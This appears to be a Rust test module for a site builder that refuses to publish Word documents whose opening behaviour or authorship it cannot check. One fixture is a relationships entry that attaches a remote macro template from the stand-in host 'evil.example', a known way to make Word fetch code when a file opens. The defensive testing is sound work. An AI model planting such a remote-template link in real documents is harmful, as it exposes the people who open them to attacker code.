//! The hostile-input and careless-input findings fixed in the twentieth
//! round.

#[path = "../common/mod.rs"]
mod common;
mod names;
mod office_parts;
mod zip_records;

use common::office::site_linking;
use common::{message_at, tree};

pub const DOCUMENT: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
pub const SETTINGS: &str = "word/_rels/settings.xml.rels";
/// Relationships that attach a template from another host: Word fetches
/// it on opening.
pub const REMOTE: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// Builds a site linking `bytes` as `report.docx` and returns the error
/// said about it and its hint, checking that the previous output is left
/// as it was; `None` when it was published.
pub fn refusal(bytes: &[u8]) -> Option<(String, String)> {
    let (site, before) = site_linking("report.docx", bytes);
    let o = site.build();
    if o.code == 0 {
        return None;
    }
    assert_eq!(o.code, 1, "{}", o.stderr);
    let (line, hint) = message_at(&o.stderr, "guidance/handbook/report.docx");
    assert_eq!(tree(&site.out()), before, "the output changed");
    let head = "error: not published: cannot check what the document fetches or runs when \
                opened, or who wrote it: ";
    let said = line.split_once(head).unwrap_or(("", line)).1;
    Some((said.to_string(), hint.to_string()))
}

/// Runs each case, a document and the start of what must be said of it,
/// and fails naming every one published or told otherwise.
pub fn all_refused(cases: Vec<(&str, Vec<u8>, String)>) {
    let mut wrong = Vec::new();
    for (what, bytes, said) in cases {
        match refusal(&bytes) {
            Some((s, hint))
                if s.starts_with(&said)
                    && hint
                        .starts_with("open it in the program that made it and save it again") => {}
            other => wrong.push(format!("{what}: {other:?}")),
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Each document must be published as it is, with nothing said of it.
pub fn all_published(cases: Vec<(&str, Vec<u8>)>) {
    for (what, bytes) in cases {
        let (site, _) = site_linking("report.docx", &bytes);
        let o = site.build_ok();
        assert!(!o.stderr.contains("report.docx"), "{what}: {}", o.stderr);
        assert_eq!(
            std::fs::read(site.out().join("en/handbook/report.docx")).unwrap(),
            bytes,
            "{what}"
        );
    }
}
